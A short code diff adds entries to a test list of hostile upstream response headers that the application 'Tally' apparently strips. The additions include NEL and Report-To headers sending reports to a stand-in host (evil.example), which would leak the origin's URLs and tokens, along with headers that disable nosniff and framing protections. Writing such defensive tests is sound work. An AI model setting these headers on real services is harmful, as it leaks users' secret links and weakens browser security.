@@ -23,6 +23,14 @@ HOSTILE_HEADERS = [
     ("Content-Security-Policy-Report-Only", "default-src *"),
     ("Access-Control-Allow-Origin", "*"),
     ("Access-Control-Allow-Credentials", "true"),
+    # Origin-wide browser policies: NEL/Report-To would report every later URL of Tally's origin (invite links,
+    # ?key= tokens) to the upstream's host for a year; `none` before Tally's nosniff would switch sniffing back on.
+    ("NEL", '{"report_to":"g","max_age":31536000,"success_fraction":1.0}'),
+    ("Report-To", '{"group":"g","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}'),
+    ("Reporting-Endpoints", 'g="https://evil.example/r"'),
+    ("X-Content-Type-Options", "none"),
+    ("X-Frame-Options", "ALLOWALL"),
+    ("Referrer-Policy", "unsafe-url"),
     ("X-Request-Id", "req_hostile"),
 ]
 
